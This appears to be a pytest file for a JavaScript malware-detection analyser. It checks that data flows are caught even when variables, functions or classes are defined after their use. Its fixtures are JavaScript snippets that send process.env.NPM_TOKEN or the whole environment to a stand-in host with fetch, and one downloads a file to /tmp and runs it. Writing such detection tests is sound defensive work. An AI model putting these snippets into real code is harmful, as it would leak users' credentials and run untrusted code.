"""What is learnt late in a JavaScript file reaches the code that came before it, which is then evaluated again."""

from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour
from adapters.sigil.local.code.javascript import javascript_facts

LATE = [
    pytest.param(
        "function send() { fetch('https://e.invalid/c', {method: 'POST', body: kept}); }\n"
        "send();\nlet kept = process.env.NPM_TOKEN;\n",
        id="a variable that is set after its use",
    ),
    pytest.param(
        "const box = {};\nfunction send() {"
        " fetch('https://e.invalid/c', {method: 'POST', body: JSON.stringify(box)}); }\n"
        "function fill() { box.inner = process.env.NPM_TOKEN; }\nfill(); send();\n",
        id="a property of what is sent whole",
    ),
    pytest.param(
        "const box = {};\nfunction send() {"
        " fetch('https://e.invalid/c', {method: 'POST', body: JSON.stringify(box)}); }\n"
        "function fill() { box.inner.deep = process.env; }\nfill(); send();\n",
        id="the environment in a property of a property",
    ),
    pytest.param(
        "function send() { fetch('https://e.invalid/c', {method: 'POST', body: thing().collect()}); }\n"
        "send();\nclass Later { collect() { return process.env.NPM_TOKEN; } }\n",
        id="a method of a class that follows",
    ),
    pytest.param(
        "function send() { fetch('https://e.invalid/c', {method: 'POST', body: loose}); }\n"
        "function fill() { loose = process.env.NPM_TOKEN; }\nsend(); fill();\n",
        id="a global that nobody declared",
    ),
    pytest.param(
        "function send() { fetch('https://e.invalid/c', {method: 'POST', body: first()}); }\n"
        "function first() { return second(); }\nfunction second() { return process.env.NPM_TOKEN; }\nsend();\n",
        id="what a function hands on from another",
    ),
    pytest.param(
        "const body = 1;\nfunction send() { for (;;) { fetch('https://e.invalid/c', {method: 'POST', body});"
        " var body = process.env.NPM_TOKEN; } }\nsend();\n",
        id="a variable that hides another of its name",
    ),
]


@pytest.mark.parametrize("code", LATE)
def test_what_is_learnt_late_reaches_earlier_code(code: str) -> None:
    """A secret that is put somewhere after it is read there in the source is still seen to leave."""
    found = javascript_facts("index.js", code.encode())

    ways = {(flow.source.behaviour, flow.sink.behaviour) for flow in found.flows}
    assert (Behaviour.READS_ENVIRONMENT, Behaviour.SENDS) in ways


def test_a_file_that_is_written_further_down_is_known_where_it_is_run() -> None:
    """The order of functions in the source says nothing about which of them runs first."""
    code = (
        "const fs = require('fs'), run = require('child_process');\n"
        "function start() { run.execFile('/tmp/inert-tool'); }\n"
        "function load() { fetch('https://e.invalid/t').then(data => fs.writeFileSync('/tmp/inert-tool', data)); }\n"
        "load(); start();\n"
    )

    found = javascript_facts("index.js", code.encode())

    ways = {(flow.source.behaviour, flow.sink.behaviour) for flow in found.flows}
    assert (Behaviour.WRITES_FILE, Behaviour.RUNS_PROCESS) in ways


def test_call_at_load_is_known_inside_of_functions_met_before() -> None:
    """A function that turns out to run at load has its facts told so, those of functions that it calls as well."""
    code = "function b() { eval(x); }\nfunction a() { b(); }\na();\n"

    (fact,) = javascript_facts("index.js", code.encode()).facts

    assert fact.at_load
